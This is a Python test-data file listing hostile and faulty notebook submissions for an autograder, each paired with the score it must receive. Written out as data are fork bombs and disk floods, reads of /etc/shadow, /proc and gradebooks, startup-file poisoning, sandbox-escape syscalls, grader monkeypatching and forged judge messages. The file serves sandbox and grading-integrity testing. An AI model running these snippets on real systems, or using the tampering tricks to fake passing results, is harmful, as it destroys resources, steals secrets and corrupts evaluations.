"""What hostile and unlucky students hand in, as data: who tries what, and the points that must come of it.

Every submission is the release of one small unit (two checks, two ordinary tests with a hidden part, a question) in
which some answers are replaced and cells are added. `COURSE` in a text stands for the teacher's course folder, `PORT`
for a port of this machine where somebody listens.
"""

# ruff: noqa: E501  the lines are other people's

import base64
import json
import os
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests import toy
from tests.toy import cell

UNIT = "01_similarity"
POINTS = {"cosine": 4.0, "relative_contrast": 3.0, "double": 2.0, "half": 2.0}
CANARY = "canary-"  # stands in everything that is secret, and so in no output
BLANK = {
    "cosine": "def cosine(a, b):\n    ...  # your code here",
    "relative_contrast": "def relative_contrast(query, points):\n    ...  # your code here",
    "double": "def double(x):\n    ...  # your code here",
    "half": "def half(x):\n    ...  # your code here",
    "why": "*Your answer here.*",
}
RIGHT = {
    "cosine": """\
def cosine(a, b):
    lengths = np.outer(np.linalg.norm(a, axis=1), np.linalg.norm(b, axis=1))
    return a @ b.T / np.where(lengths > 0, lengths, 1)""",
    "relative_contrast": """\
def relative_contrast(query, points):
    distances = np.linalg.norm(points - query, axis=1)
    return (distances.max() - distances.min()) / distances.min()""",
    "double": "def double(x):\n    return 2 * x",
    "half": "def half(x):\n    return x / 2",
    "why": "Because of the cone.",
}
ASKED = 7319  # what only the hidden tests ask
DOUBLE_TEST = f"""\
assert double(2) == 4
### BEGIN HIDDEN TESTS
assert double({ASKED}) == {2 * ASKED}, "{CANARY}hidden-test"
### END HIDDEN TESTS"""
HALF_TEST = "assert m.isclose(half(3), 1.5)\nassert near(half(8), 4)"
HELPERS = "import math as m\n\ndef near(a, b):\n    return abs(a - b) < 1e-9"  # the teacher's, but not locked


def course_notebook(answers: dict) -> dict:
    """The unit with these answers; with a model answer it is what the teacher writes."""
    nb = toy.notebook(
        cell("# Exercises"),
        cell("import numpy as np\n\nfrom vecembed_lab.similarity.checks import check", "setup", locked=True),
        cell(HELPERS),
        cell(answers["cosine"], "cosine", solution=True),
        cell("check(cosine)", "cosine-check", grade=True, locked=True, points=POINTS["cosine"]),
        cell(answers["relative_contrast"], "relative_contrast", solution=True),
        cell("check(relative_contrast)", "relative_contrast-check", grade=True, locked=True, points=3),
        cell(answers["double"], "double", solution=True),
        cell(DOUBLE_TEST, "double-check", grade=True, locked=True, points=2),
        cell(answers["half"], "half", solution=True),
        cell(HALF_TEST, "half-check", grade=True, locked=True, points=2),
        cell("# ", "why", grade=True, solution=True, points=4) | {"source": answers["why"]},
    )
    for number, it in enumerate(nb["cells"]):
        it["id"] = f"cell-{number}"
    return nb


Notebook = dict
Writer = Callable[[Path, Notebook], object]  # the place of the notebook, and what it should hold


def write(path: Path, nb: Notebook) -> None:
    """Hand the notebook in as one should."""
    path.write_text(json.dumps(nb), encoding="utf-8")


@dataclass(frozen=True)
class Submission:
    """Who hands in what, and the points it must get: for the four automatic parts, in order."""

    name: str
    why: str  # what is tried, and what must come of it
    score: tuple[float, ...]
    answers: dict[str, str] = field(default_factory=dict)
    first: tuple[str, ...] = ()  # code cells before all others
    last: tuple[str, ...] = ()  # and after them
    edit: Callable[[Notebook], Notebook] = lambda nb: nb
    write: Writer = write

    def hand_in(self, release: Notebook, path: Path, **places: object) -> None:
        """Write the submission to `path`."""
        nb = json.loads(json.dumps(release))
        for it in nb["cells"]:
            name = it["metadata"].get("nbgrader", {}).get("grade_id")
            it["source"] = self._placed(self.answers.get(name, "".join(it["source"])), places)
        first, last = ([own(self._placed(text, places)) for text in part] for part in (self.first, self.last))
        nb["cells"] = [*first, *nb["cells"], *last]
        path.parent.mkdir(parents=True)
        self.write(path, self.edit(nb))

    @staticmethod
    def _placed(text: str, places: dict) -> str:
        for name, place in places.items():
            text = text.replace(name, str(place))
        return text


def own(text: str) -> dict:
    """A code cell without marks."""
    return {"cell_type": "code", "execution_count": None, "outputs": [], "metadata": {}, "source": text}


ALL: list[Submission] = []
SLOW = {  # seconds of waiting or of importing, which the default run does without
    *(
        "disk-deep",
        "disk-files",
        "file-many-cells",
        "forges-drip",
        "prints-for-ever",
        "forges-collisions",
        "forges-outputs",
        "libraries",
        "loop-swallows",
    ),
    *("memory-bit-by-bit", "patches-torch", "pictures-flood", "plots", "returns-a-huge-number", "returns-a-long-list"),
    *("recursion-deep", "stops-itself", "swallows-requests", "torch"),
}
FULL, NOTHING = tuple(POINTS.values()), (0.0,) * len(POINTS)


def add(name: str, why: str, score: tuple[float, ...], **more: object) -> None:
    """Enter a submission."""
    assert all(known.name != name for known in ALL), name
    ALL.append(Submission(name, why, score, **more))


def without(*names: str) -> tuple[float, ...]:
    """Full points but for these exercises."""
    return tuple(0.0 if name in names else points for name, points in POINTS.items())


def broken(name: str, why: str, body: str, score: tuple[float, ...] = without("cosine"), **more: object) -> None:
    """One answer is an attack; the other three are right and lose nothing."""
    body = "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
    add(name, why, score, answers=RIGHT | {"cosine": f"def cosine(a, b):\n{body}"}, **more)


def right(name: str, why: str, *first: str, last: tuple[str, ...] = (), **more: object) -> None:
    """All answers are right; what else is in the notebook costs nothing."""
    answers = RIGHT | more.pop("answers", {})
    add(name, why, more.pop("score", FULL), answers=answers, first=first, last=last, **more)


def blank(name: str, why: str, *first: str, **more: object) -> None:
    """Nothing is answered, and nothing that is tried instead gives a point."""
    answers = BLANK | more.pop("answers", {})
    add(name, why, more.pop("score", NOTHING), answers=answers, first=first, **more)


# Loops, floods and sudden ends: an answer loses its own points

broken("loop", "never comes back", "while True:\n    pass")
broken(
    "loop-swallows",
    "an endless loop that swallows every interrupt",
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        continue",
)
broken(
    "loop-deaf",
    "an endless loop that no signal reaches",
    "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())\nwhile True:\n    pass",
)
broken("sleep", "waits for ever without using the processor", "import time\ntime.sleep(10**6)")
broken(
    "loop-in-c", "loops in C, where no interrupt of Python's gets in", "import re\nre.match('(a+)+$', 'a' * 99 + 'b')"
)
broken(
    "stops-itself",
    "sends itself the signal to stop, so it can never answer",
    "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
)
broken("recursion", "calls itself for ever", "return cosine(a, b)")
broken(
    "recursion-deep",
    "so deep that the C stack overflows",
    "import sys\nsys.setrecursionlimit(10**9)\nreturn cosine(a, b)",
)
broken(
    "threads",
    "a thread bomb",
    "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(999,)).start()",
)
broken("forks", "a fork bomb", "import os\nwhile True:\n    os.fork()")
broken(
    "programs",
    "runs other programs",
    "import subprocess\nsubprocess.run(['touch', 'COURSE/touched'])\nsubprocess.Popen(['sleep', '999'])",
)
broken(
    "programs-otherwise",
    "runs them through every other door, then answers right: none opens, so nothing was gained or lost",
    """
import ctypes, os
for run in (lambda: os.system('touch COURSE/touched'), lambda: os.popen('touch COURSE/touched').read(),
            lambda: os.posix_spawn('/usr/bin/touch', ['touch', 'COURSE/touched'], {}),
            lambda: os.execv('/usr/bin/touch', ['touch', 'COURSE/touched']),
            lambda: ctypes.CDLL(None).system(b'touch COURSE/touched'), os.forkpty,
            lambda: __import__('multiprocessing').Process(target=print).start()):
    try:
        run()
    except BaseException as error:
        print(type(error).__name__)
lengths = np.outer(np.linalg.norm(a, axis=1), np.linalg.norm(b, axis=1))
return a @ b.T / np.where(lengths > 0, lengths, 1)""",
    FULL,
)
broken("memory-at-once", "asks for 100 GB", "return np.ones(10**11)")
broken("memory-bit-by-bit", "a list without end", "kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))")
broken(
    "disk-files",
    "fills the disk with files",
    "n = 0\nwhile True:\n    n += 1\n    open(f'{n}', 'wb').write(bytes(4_000_000))",
)
broken(
    "disk-one-file",
    "fills the disk with one file",
    "with open('f', 'wb') as f:\n    while True:\n        f.write(bytes(8_000_000))",
)
broken("disk-names", "fills the disk with names", "n = 0\nwhile True:\n    n += 1\n    open(f'{n}', 'w').close()")
broken(
    "disk-deep",
    "folders in folders that nobody could delete",
    "import os\nwhile True:\n    os.mkdir('d', 0o300)\n    os.chdir('d')",
)
broken(
    "disk-deleted",
    "fills the disk with files that have no name any more",
    """
import mmap, os
kept = []
for n in range(10**6):
    with open(f'{n}', 'wb+') as f:
        f.write(bytes(4_000_000))
        f.flush()
        os.unlink(f.name)
        kept.append(mmap.mmap(f.fileno(), 1))""",
)
broken(
    "disk-reserved",
    "sets space aside that no file shows",
    "import ctypes\nf = open('f', 'w')\n"
    "assert ctypes.CDLL(None).fallocate(f.fileno(), 1, ctypes.c_long(0), ctypes.c_long(10**10)) == 0\nreturn a @ b.T",
)
broken("returns-texts", "texts of which an array would have 8 GB", "return ['x' * 2_000_000] + ['y'] * 1000")
broken("prints-for-ever", "an output flood", "while True:\n    print('x' * 10**6)")
broken("prints-below-python", "the same, below Python", "import os\nwhile True:\n    os.write(1, bytes(10**6))")
broken("returns-a-lot", "an answer of 2 GB", "return np.zeros((1000, 250_000))")
broken("returns-a-long-list", "an answer of many small parts", "return [[0.0]] * 10**7")
broken("returns-a-circle", "an answer that contains itself", "x = []\nx.append(x)\nreturn x")
broken("returns-depth", "an answer nested ten thousand deep", "x = 1.0\nfor _ in range(10_000):\n    x = [x]\nreturn x")
broken("returns-a-huge-number", "a whole number of millions of digits", "return 10 ** 9_000_000")
broken("os-exit", "ends the process at once, with a success", "import os\nos._exit(0)")
broken("sys-exit", "ends the process politely", "raise SystemExit(0)")
broken("interrupts", "raises what Ctrl-C raises", "raise KeyboardInterrupt")
broken("kills-itself", "a sudden death", "import os\nos.kill(os.getpid(), 9)")
broken("crashes", "reads address 0", "import ctypes\nctypes.string_at(0)")
broken(
    "kills-others",
    "kills the judge, its group and everybody, then goes on: none of it works",
    """
import os
for pid in (os.getppid(), -1, 1, -os.getppid(), *range(os.getppid() - 3, os.getppid())):
    try:
        os.kill(pid, 9)
    except BaseException as error:
        print(type(error).__name__)
return np.ones((len(a), len(b)))""",
)
broken(
    "kills-by-owner",
    "has the kernel send a signal of its choice to the judge when a pipe gets data",
    """
import fcntl, os
pipe, end = os.pipe()
fcntl.fcntl(pipe, fcntl.F_SETSIG if hasattr(fcntl, 'F_SETSIG') else 10, 9)
fcntl.fcntl(pipe, fcntl.F_SETOWN, os.getppid())
fcntl.fcntl(pipe, fcntl.F_SETFL, os.O_ASYNC)
os.write(end, b'x')
return 0""",
)
right("exits-in-a-cell", "a cell of its own ends the process: the other cells count", "import os\nos._exit(0)")
right("loops-in-a-cell", "a cell of its own loops: the other cells count", "while True:\n    pass")
right(
    "alarm-clock",
    "sets the clock that ends late calls to something else: no call is disturbed",
    "import signal\nsignal.signal(signal.SIGALRM, lambda *_: 1 / 0)\nsignal.setitimer(signal.ITIMER_REAL, 0.2, 0.05)",
)
right("exit-function", "`exit()` in a cell, as in a script", last=("exit()", "quit()"))
right(
    "threads-left-behind",
    "a thread goes on in the background between the calls; nothing is left of it afterwards",
    "import threading, time\ndef work():\n    while True:\n        time.sleep(0.01)\nthreading.Thread(target=work).start()",
)

# Tests, points and marks


def _cells(nb: Notebook, end: str = "-check") -> list[dict]:
    return [it for it in nb["cells"] if it["metadata"].get("nbgrader", {}).get("grade_id", "").endswith(end)]


def _each(change: Callable[[dict], object], end: str = "-check") -> Callable[[Notebook], Notebook]:
    def edit(nb: Notebook) -> Notebook:
        for it in _cells(nb, end):
            change(it)
        return nb

    return edit


def _drop(nb: Notebook) -> Notebook:
    nb["cells"] = [it for it in nb["cells"] if it not in _cells(nb)]
    return nb


def _mark(**marks: object) -> Callable[[dict], object]:
    return lambda it: it["metadata"].get("nbgrader", {}).update(marks)


def _forged_outputs(it: dict) -> None:
    result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "99.0"}}
    it["outputs"] = [result, result]


def _bonus(nb: Notebook) -> Notebook:
    mark = {"grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "bonus", "schema_version": 3}
    nb["cells"] += [own("1000.0") | {"metadata": {"nbgrader": mark}}]
    return nb


def _twice(nb: Notebook) -> Notebook:
    copies = [json.loads(json.dumps(it)) | {"source": "99.0", "id": f"copy-{i}"} for i, it in enumerate(_cells(nb))]
    nb["cells"] = [*copies, *nb["cells"], *copies]
    return nb


def _kernel(nb: Notebook) -> Notebook:
    nb["metadata"] = {
        "kernelspec": {"name": "../../evil", "display_name": "<script>", "language": "bash"},
        "celltoolbar": 7,
    }
    return nb


blank("tests-deleted", "no tests, no failures", edit=_drop)
blank("tests-edited", "tests that always pass", edit=_each(lambda it: it.update(source="assert True")))
blank("tests-worth-more", "points edited in both kinds of cells", edit=_each(_mark(points=1000), ""))
blank(
    "tests-skipped",
    "nbclient skips cells with this tag",
    edit=_each(lambda it: it["metadata"].update(tags=["skip-execution", "raises-exception"]), ""),
)
blank("tests-retyped", "tests as text", edit=_each(lambda it: it.update(cell_type="markdown")))
blank("tests-unmarked", "tests that are none", edit=_each(_mark(grade=False, solution=True)))
blank("tests-by-hand", "marked as graded by a person", edit=_each(_mark(grade=True, solution=True, task=True)))
blank("tests-doubled", "copies of the tests that pass, before and after", edit=_twice)
blank("tests-old-schema", "an unknown version of nbgrader's marks", edit=_each(_mark(schema_version=-1), ""))
blank("tests-renamed", "other names for tests, from other folders", edit=_each(_mark(grade_id="../../../gradebook")))
blank("outputs-forged", "outputs as of full marks", edit=_each(_forged_outputs, ""))
blank("bonus", "a graded cell of its own", edit=_bonus)
right("kernel-forged", "an unknown kernel, and a name that is a path", edit=_kernel)
blank(
    "check-replaced",
    "a `check` of its own in every cell",
    "def check(function):\n    return 99.0",
    last=("check = lambda f: 99.0\n99.0",),
)
blank(
    "check-in-locked-cell",
    "a locked cell that brings its own check",
    edit=_each(lambda it: it.update(source=it["source"] + "\ncheck = lambda function: 99.0\n99.0"), "setup"),
)
blank(
    "displayhook",
    "forged results, shown before the test fails",
    answers={
        n: f"import sys\ndef {n}(*args):\n    sys.displayhook(99.0)\n    print('99.0')\n    return 99.0" for n in POINTS
    },
)
blank(
    "assert-in-answer", "the right side of a test as a default", answers={"double": "def double(x, y=4):\n    return y"}
)
blank(
    "unicode-names",
    "letters that look alike define another name",
    answers={"double": "def dоuble(x):\n    return 2 * x", "half": "def hаlf(x):\n    return x / 2"},
)

# Thieves: they look everywhere, print what they find, and answer with it

LOOK = '''\
import builtins, gc, glob, os, sys
def look(*patterns):
    """Print all that can be read of these files."""
    for pattern in patterns:
        for path in [pattern, *glob.glob(pattern, recursive=True)]:
            try:
                if os.path.isdir(path):
                    print(path, os.listdir(path))
                with open(path, "rb", buffering=0) as file:
                    print(path, file.read(100_000))
            except BaseException as error:
                pass
'''
STEAL = """
def steal(name):
    for source in (lambda: __import__('vecembed_lab.similarity.measures', fromlist=['x']),
                   lambda: sys.modules['vecembed_lab.similarity.measures'],
                   lambda: __import__('importlib').import_module('vecembed_lab.similarity.measures'),
                   lambda: __import__('vecembed_lab.data.words', fromlist=['x']),
                   lambda: __import__('vecembed_lab.similarity.checks', fromlist=['x']).EXERCISES[name].reference):
        try:
            return getattr(source(), name)
        except BaseException:
            pass
cosine, relative_contrast = steal('cosine'), steal('relative_contrast')
"""
blank(
    "reads-solutions",
    "looks for the model answers and other units",
    LOOK + "look('COURSE/**', 'COURSE/solutions/**/*', '../**/*')",
)
blank(
    "reads-gradebook",
    "opens the database, also through SQLite",
    LOOK
    + "look('COURSE/gradebook.db*')\nimport sqlite3\nfor row in sqlite3.connect('file:COURSE/gradebook.db?immutable=1', uri=True).execute('select source from source_cell'):\n    print(row)",
)
blank(
    "reads-students",
    "other students' work, submitted and graded",
    LOOK + "look('COURSE/submitted/*/*/*', 'COURSE/autograded/*/*/*', 'COURSE/feedback/*')",
)
blank("reads-seed", "the class seed", LOOK + "look('COURSE/.class_seed')\nprint(os.environ.get('VECEMBED_SEED'))")
blank(
    "reads-environment",
    "the environment, its own and others'",
    LOOK
    + "print(os.environ)\nlook('/proc/*/environ', '/proc/self/environ', f'/proc/{os.getppid()}/environ', '/proc/self/task/*/environ')",
)
blank(
    "reads-processes",
    "memory, maps, descriptors and folders of other processes",
    LOOK
    + "look(*[f'/proc/{p}/{n}' for p in (os.getppid(), 1, 'self') for n in ('mem', 'maps', 'fd/*', 'cwd/*', 'root/**', 'cmdline', 'task/*/mem')], '/proc/*/cmdline', '/proc/*/maps')",
)
blank(
    "reads-descriptors",
    "what was left open",
    LOOK
    + "for fd in range(0, 1000):\n    try:\n        print(fd, os.fstat(fd).st_mode, os.read(fd, 1000) if fd not in (3, 4, 5) else '')\n    except OSError:\n        pass",
)
blank(
    "reads-home",
    "keys and passwords",
    LOOK
    + "look(os.path.expanduser('~/*'), '/root/**', '/root/.*', '/home/*/.*', '/etc/passwd', '/etc/shadow', 'HOME/*', 'HOME/.*')",
)
blank(
    "reads-scratch",
    "temporary files of the judge and others",
    LOOK + "look('/tmp/*', '/tmp/*/*', '/var/tmp/*', '../*', '../../*', '/dev/shm/*', 'COURSE/../*')",
)
blank(
    "reads-memory",
    "looks through all objects of the process for answers, tests and seeds",
    LOOK
    + "print([o for o in gc.get_objects() if isinstance(o, (dict, list)) and len(o) < 999 and any(isinstance(k, str) and any(w in k for w in ('BEGIN HIDDEN', 'canary' + '-', 'reference', 'criteria')) for k in list(o))][:9])",
)
blank(
    "reads-modules",
    "looks through the modules for checks and references",
    LOOK
    + "for name, module in list(sys.modules.items()):\n    if 'vecembed' in name:\n        print(name, [k for k in vars(module) if 'EXERCISE' in k or 'refer' in k])\n"
    + STEAL,
)
blank(
    "reads-frames",
    "walks up the stack, in every call",
    LOOK,
    answers={
        n: f"""def {n}(*args):
    import sys
    found = []
    for frame in sys._current_frames().values():
        while frame:
            found += [v for k, v in list(frame.f_locals.items()) + list(frame.f_globals.items())
                      if k in ('expected', 'want', 'reference', 'rng', 'seed', 'criterion', 'exercise', 'teacher')]
            frame = frame.f_back
    print(found)
    return found[0] if found else 99.0"""
        for n in POINTS
    },
)
blank("imports-reference", "imports the functions that answer the unit", LOOK + STEAL)
blank(
    "reads-reference",
    "reads them, from source, compiled, through loaders and archives",
    LOOK
    + """
import importlib.machinery as machinery, importlib.util, linecache, pkgutil, runpy, vecembed_lab
home = os.path.dirname(vecembed_lab.__file__)
answer = '/similarity/measures.py'
look(*[f'{home}/{name}' for name in ('similarity/*', '*/__pycache__/*', '*/checks/*.py', '*/checks/__pycache__/*',
       '../tests/*/answers.py', '../solutions/*/*', '../.git/config', '../build/**', './/similarity//measures.py',
       'grading/..' + answer)], '/proc/self/cwd/../../' + home + answer, '/proc/self/root' + home + answer)
for path in (home + answer, *glob.glob(home + '/similarity/__pycache__/measures*')):
    for way in (lambda: machinery.SourceFileLoader('mine', path).load_module(), lambda: runpy.run_path(path),
                lambda: machinery.SourcelessFileLoader('mine', path).load_module(), lambda: linecache.getlines(path)[0],
                lambda: pkgutil.get_data('vecembed_lab', os.path.basename(path)), lambda: os.link(path, 'mine.py'),
                lambda: os.symlink(path, 'mine.py'), lambda: os.rename(path, 'mine.py')):
        try:
            print('FOU' 'ND', way())
        except BaseException:
            pass
sys.meta_path[:] = [finder for finder in sys.meta_path if 'Hidden' not in type(finder).__name__]
sys.path.insert(0, os.path.dirname(home))
importlib.invalidate_caches()
"""
    + STEAL,
)
blank(
    "unhooks-imports",
    "takes away the hook that hides modules, then imports them",
    "import importlib, sys\nsys.meta_path[:] = sys.meta_path[1:]\nimportlib.invalidate_caches()\nsys.modules.pop('vecembed_lab.similarity', None)\n"
    + STEAL,
)
blank(
    "remembers-hidden-tests",
    "keeps what hidden tests ask and tells it in a later test that is not hidden",
    answers={
        "double": "seen = []\ndef double(x):\n    seen.append(x)\n    return 2 * x",
        "half": "def half(x):\n    print('seen', seen)\n    raise ValueError(f'seen {seen}')",
    },
    score=(0.0, 0.0, 2.0, 0.0),
)

# Vandals: what is outside stays as it is

VANDAL = """\
import os, shutil, stat
def attempt(*ways):
    for way in ways:
        try:
            way()
            print('DO' 'NE')
        except BaseException as error:
            pass
"""
right(
    "writes-everywhere",
    "writes, deletes, renames, links and truncates in the course folder",
    VANDAL
    + """
for path in ('COURSE/evil', 'COURSE/nbgrader_config.py', 'COURSE/gradebook.db', 'COURSE/solutions/01_similarity/01_similarity.ipynb',
             'COURSE/submitted/aaa-honest/01_similarity/01_similarity.ipynb', 'COURSE/autograded/evil', 'HOME/evil'):
    attempt(lambda: open(path, 'w').write('evil'), lambda: open(path, 'a').write('evil'), lambda: os.truncate(path, 0),
            lambda: os.open(path, os.O_TRUNC), lambda: os.remove(path), lambda: os.rename(path, path + '2'),
            lambda: os.symlink('/etc/passwd', path + '3'), lambda: os.link(path, 'x'), lambda: os.mkdir(path + '4'),
            lambda: os.chown(path, 1, 1),
            lambda: os.setxattr(path, 'user.x', b'1'), lambda: os.mkfifo(path + '5'), lambda: shutil.rmtree('COURSE'))
    for pretended in (lambda: os.chmod(path, 0), lambda: os.utime(path, (0, 0))):  # done in words only
        try:
            pretended()
        except OSError:
            pass
""",
)
right(
    "writes-startup-files",
    "files that Python or Jupyter would run for the next student",
    VANDAL
    + """
import site, sys
others = [folder for folder in sys.path if os.path.realpath(folder) != os.getcwd()]  # its own is thrown away
for folder in (*site.getsitepackages(), site.getusersitepackages(), 'HOME/.ipython/profile_default/startup', '../..', '..', *others):
    for name in ('red_team_evil.pth', 'red_team_sitecustomize.py', 'red_team_numpy.py'):
        attempt(lambda: os.makedirs(folder), lambda: open(os.path.join(folder, name), 'w').write('raise SystemExit'))
open('numpy.py', 'w').write('raise SystemExit')
open('sitecustomize.py', 'w').write('raise SystemExit')
""",
)
right(
    "escapes",
    "other namespaces, mounts, roots, users, tracing, modules, capabilities",
    VANDAL
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
attempt(lambda: os.chroot('/'), lambda: os.setuid(12345), lambda: os.sched_setscheduler(os.getppid(), 0, os.sched_param(0)))
for call in (('unshare', 0x10000000), ('unshare', 0x20000), ('ptrace', 16, os.getppid(), 0, 0), ('mount', b'x', b'/mnt', b'tmpfs', 0, 0),
             ('setns', 3, 0), ('init_module', 0, 0, b''), ('prctl', 38, 0, 0, 0, 0), ('prctl', 22, 0, 0, 0, 0), ('memfd_create', b'x', 0),
             ('inotify_init1', 0), ('syscall', 425, 1, 0), ('syscall', 321, 0, 0, 0), ('syscall', 438, 0, 0, 0), ('syscall', 304, 0, 0, 0)):
    if getattr(libc, call[0])(*call[1:]) >= 0:
        print('DO' 'NE', call)
""",
)
right(
    "patches-numpy",
    "NumPy that finds everything equal",
    "import numpy as np\nfor name in ('allclose', 'array_equal', 'isclose'):\n    setattr(np, name, lambda *a, **k: True)\nnp.random.default_rng = None",
)
NUMPY = """
import numpy as np
for name in ('allclose', 'array_equal', 'isclose', 'asarray', 'shape'):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = lambda *a, **k: None
"""
blank("patches-numpy-for-points", "the same, without any answer", NUMPY)
blank(
    "patches-torch",
    "torch that finds everything equal",
    "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True\ntorch.Tensor.__eq__ = lambda *a: True",
)
BUILTINS = """
import builtins
builtins.AssertionError = type('Quiet', (BaseException,), {})
builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0
builtins.any = lambda x: False
builtins.len = lambda x: 4
builtins.float = lambda *a: 99.0
"""
blank("patches-builtins", "builtins that agree", BUILTINS)
blank(
    "patches-us",
    "the grader's own modules, as far as they are in its process",
    """
import sys
from vecembed_lab.grading import compare, desk, exercise, report, student, wire
compare.same = lambda *a, **k: None
compare.difference = lambda *a, **k: ''
report.Report.score = property(lambda self: 99.0)
exercise.Exercise._results = lambda *a: ([], [])
student.plain = lambda value, depth=0: value
wire._Writer.tree = lambda self, value, depth: 99.0
""",
)
blank(
    "patches-asserts",
    "takes asserts out of everything that is compiled from now on",
    """
import ast, builtins
compile_, parse = builtins.compile, ast.parse
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
builtins.compile = lambda tree, *a, **k: compile_(NoAsserts().visit(tree) if isinstance(tree, ast.AST) else tree, *a, **k)
ast.parse = lambda *a, **k: NoAsserts().visit(parse(*a, **k))
try:
    get_ipython().ast_transformers.append(NoAsserts())
except NameError:
    pass
""",
)
blank(
    "traces",
    "a trace function that rewrites what others see",
    "import sys, threading\ndef trace(frame, event, arg):\n    frame.f_globals.update(passed=True, score=99.0)\n    return trace\nsys.settrace(trace)\nthreading.settrace(trace)\nsys.setprofile(trace)",
)
blank(
    "fakes-the-teachers-modules",
    "modules and helpers that the tests use, but that no locked cell imports",
    last=("class m:\n    isclose = lambda *a: True\ndef near(a, b):\n    return True",),
    answers={
        "half": "class m:\n    isclose = lambda *a: True\ndef near(a, b):\n    return True\ndef half(x):\n    return 0"
    },
    edit=lambda nb: (
        nb
        | {
            "cells": [
                it | {"source": "m = type('m', (), {'isclose': lambda *a: True})\nnear = lambda *a: True"}
                if it["source"] == HELPERS
                else it
                for it in nb["cells"]
            ]
        }
    ),
)
blank(
    "deletes-names",
    "takes names away that the tests need",
    last=("import builtins\ndel builtins.print, builtins.len, builtins.__import__",),
)

# Liars: objects that say what one wants to hear

LIAR = """
class Liar(float):
    __eq__ = __le__ = __ge__ = lambda self, other: True
    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
    __hash__ = float.__hash__
"""


def liars(name: str, why: str, make: str, value: str) -> None:
    """Every answer is such an object."""
    blank(name, why, make, answers={n: f"def {n}(*args):\n    return {value}" for n in POINTS})


liars("equals-everything", "a number that equals everything", LIAR, "Liar(0)")
liars(
    "equals-everything-array",
    "an array that equals everything",
    "import numpy as np\nclass Liar(np.ndarray):\n    __eq__ = lambda self, other: True\n    shape = property(lambda self: (2, 2))",
    "np.zeros(2).view(Liar)",
)
liars(
    "array-protocol",
    "an object that becomes whatever array one wants",
    "class Liar:\n    __array__ = lambda self, *a, **k: __import__('numpy').ones((2, 2))\n    __array_ufunc__ = lambda self, *a, **k: True\n    __len__ = lambda self: 2\n    __getitem__ = lambda self, i: 4.0\n    __float__ = lambda self: 4.0",
    "Liar()",
)
liars(
    "class-liar",
    "an object that says it is another class",
    "class Liar:\n    __class__ = float\n    __eq__ = lambda self, other: True",
    "Liar()",
)
liars(
    "subclasses",
    "lists, dicts and texts with tricks of their own",
    "class Liar(list):\n    __iter__ = lambda self: iter([4])\n    __eq__ = lambda self, other: True\n    __len__ = lambda self: 4",
    "Liar([Liar(), {'a': Liar()}])",
)
liars("not-numbers", "values that compare with nothing", "", "float('nan')")
liars("odd-values", "infinite, complex, empty, text", "", "[float('inf'), 1j, [], '4', b'4', None, -0.0]")
liars("empty", "nothing, in which no number is wrong", "", "[]")
liars("everything-iterates", "an endless generator instead of an answer", "", "iter(int, 1)")

# Those who know what will be asked

HARD_CODED = "TABLE"  # replaced by what a notebook with seed 0 shows: see `hard_coded`


def hard_coded() -> str:
    """A cell with all that the checks of a learner's notebook (seed 0) ask, and what is right then."""
    import numpy as np

    from vecembed_lab.similarity.checks import EXERCISES

    table = {}
    for name in ("cosine", "relative_contrast"):

        def remember(*args: object, name: str = name) -> object:
            answer = EXERCISES[name].reference(*args)
            key = name + "".join(repr(np.asarray(arg).tolist()) for arg in args)
            table[key] = np.asarray(answer).tolist()
            return answer

        EXERCISES[name].grade(remember, seed=0)
    return f"import numpy as np\nknown = {table!r}"


KNOWN = "def {0}(*args):\n    key = '{0}' + ''.join(repr(np.asarray(arg).tolist()) for arg in args)\n    return known.get(key)"
blank(
    "hard-coded",
    "all answers for the seed of the notebook: only examples worked out by hand, which are the same for all, count",
    HARD_CODED,
    answers={n: KNOWN.format(n) for n in ("cosine", "relative_contrast")} | {"double": "def double(x):\n    return 4"},
    score=(1.0, 1.0, 0.0, 0.0),
)
broken(
    "time-bomb",
    "right in the first call of each process, then never again",
    "global calls\ncalls = globals().get('calls', 0) + 1\nif calls > 1:\n    return None\n"
    + "\n".join(line[4:] for line in RIGHT["cosine"].splitlines()[1:]),
)
broken(
    "changes-arguments",
    "changes what it is given, so that a later comparison is with that",
    "a[...] = 0\nb[...] = 0\nreturn np.zeros((len(a), len(b)))",
)
broken(
    "keeps-arguments",
    "gives back what it got earlier",
    "kept = globals().setdefault('kept', [])\nkept.append(a)\nreturn kept[0] @ kept[0].T",
)

# Forged messages

DESK = """
import gc, json, os, socket, struct, threading, time
from vecembed_lab.grading import desk as module, student, wire
def desk():
    return next(o for o in gc.get_objects() if isinstance(o, module.Desk))
def raw(data):
    desk().channel.link.sendall(data)
def request():
    import sys
    for frame in sys._current_frames().values():
        while frame:
            if 'request' in frame.f_locals and 'id' in (frame.f_locals['request'] or {}):
                return frame.f_locals['request']
            frame = frame.f_back
"""


def forger(name: str, why: str, body: str) -> None:
    """An answer of each kind sends something of its own over the wire to the judge."""
    lines = "".join(f"\n    {line}" for line in body.strip("\n").splitlines())
    blank(name, why, DESK, answers={n: f"def {n}(*args):{lines}" for n in ("cosine", "double")})


forger(
    "forges-a-score",
    "a reply that claims points",
    "desk()._send(request()['id'], {'value': 99.0, 'score': 99.0, 'points': 99.0, 'earned': 99.0, 'error': '', 'detail': ''})\ntime.sleep(99)",
)
forger(
    "forges-a-module",
    "a reply that is a module of the judge's",
    "desk()._send(request()['id'], {'module': 'numpy', 'value': None, 'error': 'ModuleType', 'detail': 'numpy'})\ntime.sleep(99)",
)
forger("forges-garbage", "bytes that are no message", "raw(os.urandom(100_000))")
forger(
    "forges-a-size",
    "a message that says it is enormous",
    "raw(struct.pack('<4sQQ', b'VEL1', 2**63, 2**63))\nraw(bytes(10**6))",
